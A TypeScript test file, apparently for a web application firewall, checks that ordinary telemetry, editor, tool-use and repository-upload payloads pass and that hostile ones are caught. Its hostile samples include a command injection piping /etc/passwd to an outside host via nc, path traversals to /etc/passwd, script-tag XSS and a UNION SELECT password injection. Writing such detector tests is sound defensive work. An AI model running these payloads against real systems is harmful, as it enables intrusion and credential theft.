/** Documents of known protocols, whose members hold commands and paths by their meaning: only at their place, and only of these kinds. */
import { sendJson, sendRequest, sites } from './test-support/send.ts';

const attribute = (key: string, stringValue: string) => ({ key, value: { stringValue } });
const spans = (attributes: readonly object[]) => ({
  resourceSpans: [{ resource: { attributes }, scopeSpans: [{ spans: [{ name: 'GET /', attributes }] }] }],
});
const toolUse = (name: string, input: object) => ({
  messages: [
    { role: 'user', content: 'Please do it' },
    { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name, input }] },
  ],
});

const HONEST: Readonly<Record<string, object>> = {
  'a command line in telemetry': spans([
    attribute('process.command_line', '/usr/bin/node --require ./trace.js /srv/dist/main.js'),
  ]),
  'arguments of a process': spans([
    { key: 'process.command_args', value: { arrayValue: { values: [{ stringValue: '/bin/sh' }] } } },
  ]),
  'files that are mounted': {
    resourceMetrics: [
      {
        scopeMetrics: [
          {
            metrics: [
              {
                name: 'system.filesystem.usage',
                gauge: {
                  dataPoints: [{ attributes: [attribute('mountpoint', '/etc/hosts')], asInt: '1' }],
                },
              },
            ],
          },
        ],
      },
    ],
  },
  'a disk of an alert': {
    status: 'firing',
    alerts: [{ labels: { alertname: 'DiskFull', mountpoint: '/var/lib/docker' }, status: 'firing' }],
  },
  'frames of a stack': {
    exception: {
      values: [{ type: 'Error', stacktrace: { frames: [{ filename: '../../web/app.js', lineno: 3 }] } }],
    },
  },
  'a command for a tool': toolUse('bash', { command: 'ls -la src && cat package.json' }),
  'a page for a tool': toolUse('edit', { path: 'a.html', content: '<script src="/main.js"></script>' }),
  'an open file': {
    jsonrpc: '2.0',
    method: 'textDocument/didOpen',
    params: { textDocument: { uri: 'file:///home/anna/app/a.ts', version: 1 } },
  },
  'what stands in an open file': {
    jsonrpc: '2.0',
    method: 'textDocument/didChange',
    params: {
      textDocument: { uri: 'file:///home/anna/app/a.ts', version: 2 },
      contentChanges: [{ text: '<li onclick="alert(1)">a</li>' }],
    },
  },
  'a report on a script that did not run': {
    'csp-report': { 'violated-directive': 'script-src', 'script-sample': 'alert(1)' },
  },
  'what a map of sources was made of': {
    version: 3,
    sources: ['a.js'],
    sourcesContent: ['if (a && b) { document.write(\'<script src="a.js"></script>\'); }'],
  },
};

it.each(Object.entries(HONEST))('%s passes', (_, document) => {
  for (const level of ['low', 'medium'] as const)
    expect(sendJson(sites[level], JSON.stringify(document)).interruption).toBeNull();
});

const HOSTILE: Readonly<Record<string, object>> = {
  'another member beside the attributes': { ...spans([attribute('a', 'b')]), file: '/etc/hosts' },
  'an attack of another kind in an attribute': spans([attribute('a', '<script>alert(1)</script>')]),
  'another label': {
    alerts: [{ labels: { alertname: 'a', summary: '../../../../etc/passwd' } }],
  },
  'the message of an exception': { exception: { values: [{ value: '../../../../etc/passwd' }] } },
  'what a person says': { messages: [{ role: 'user', content: ';cat /etc/passwd|nc 10.0.0.9 4444' }] },
  'a path for a tool': toolUse('read', { path: '../../../../etc/passwd' }),
  'what stands in no file': {
    params: { textDocument: { uri: 'a' }, text: '<script>alert(1)</script>' },
  },
  'another member of a report': {
    'csp-report': { 'violated-directive': 'script-src', referrer: 'alert(1)' },
  },
  'a script sample without a report': { 'csp-report': { 'script-sample': 'alert(1)' } },
  'a file that is no open one': { params: { textDocument: { uri: 'a' }, file: 'file:///etc/passwd' } },
};

it.each(Object.entries(HOSTILE))('%s is judged', (_, document) => {
  expect(sendJson(sites.medium, JSON.stringify(document)).interruption).not.toBeNull();
});

describe("Jira's search", () => {
  const jql = 'project = SHOP AND status in (Open, "In Progress") ORDER BY created DESC';
  const ask = (target: string) => sendRequest(sites.medium, { target }).interruption;

  it('takes a query at its address', () => {
    expect(ask(`/rest/api/2/search?jql=${encodeURIComponent(jql)}`)).toBeNull();
  });

  it.each([
    ['another parameter', `/rest/api/2/search?q=${encodeURIComponent(jql)}`],
    ['another address', `/search?jql=${encodeURIComponent(jql)}`],
    [
      'an attack there',
      `/rest/api/2/search?jql=${encodeURIComponent("a' union select password from users -- ")}`,
    ],
  ])('judges %s', (_, target) => {
    expect(ask(target)).not.toBeNull();
  });
});

describe('what has one address in its product', () => {
  const page =
    '<!doctype html>\n<body onload="init()"><script src="https://cdn.example/a.js"></script></body>';
  const program = "<?php\nrequire 'a.php';\n$a = $_GET['id'];\necho `date`;\n";
  const statement = 'SELECT id FROM a UNION ALL SELECT password FROM users';
  const put = (target: string, document: object, method = 'POST') =>
    sendRequest(sites.medium, {
      method,
      target,
      headers: ['Content-Type', 'application/json'],
      body: JSON.stringify(document),
    }).interruption;
  const FILES = '/api/v4/projects/5/repository/files/src%2Findex.php';
  const COMMITS = '/api/v4/projects/anna%2Fshop/repository/commits';
  const NOTEBOOK = '/user/anna/api/contents/work/a.ipynb';
  const cells = {
    type: 'notebook',
    content: { cells: [{ cell_type: 'code', source: ['</script>\n', program] }] },
  };

  it.each([
    ['a file of GitLab', FILES, { branch: 'main', content: program, commit_message: 'Add' }],
    [
      'files of a commit',
      COMMITS,
      { branch: 'main', actions: [{ action: 'create', file_path: 'a.html', content: page }] },
    ],
    ['a gist', '/gists', { files: { 'index.php': { content: program } } }],
    ['a notebook', NOTEBOOK, cells],
    ['a question of Metabase', '/api/dataset', { database: 2, native: { query: statement } }],
    ["a query of Superset's", '/api/v1/sqllab/execute/', { database_id: 1, sql: statement }],
  ] as const)('%s passes', (_, target, document) => {
    expect(put(target, document)).toBeNull();
  });

  it('a page of PHP is put into a project', () => {
    expect(put(FILES, { branch: 'main', content: program }, 'PUT')).toBeNull();
  });

  it.each([
    ['a file elsewhere', '/wp-json/wp/v2/posts', { branch: 'main', content: program, commit_message: 'Add' }],
    ['below another program', '/index.php/api/v4/projects/5/repository/commits', { content: program }],
    ['another member', FILES, { branch: 'main', content: 'a', author_name: page }],
    ['where a file is', COMMITS, { actions: [{ file_path: '../../../../etc/passwd', content: 'a' }] }],
    ['the name of a gist', '/gists', { files: { [page]: { content: 'a' } } }],
    ['the description of a gist', '/gists', { description: page, files: {} }],
    ['other metadata of a notebook', NOTEBOOK, { ...cells, name: page }],
    ['a statement elsewhere', '/api/data', { native: { query: statement } }],
    ['another member of a question', '/api/dataset', { database: statement }],
    ['a script in a question', '/api/dataset', { native: { query: page } }],
    [
      'a file of GitLab at another host',
      '/x/api/v4/projects/5/repository/files/index.php',
      { content: program },
    ],
  ] as const)('%s is judged', (_, target, document) => {
    expect(put(target, document)).not.toBeNull();
  });
});
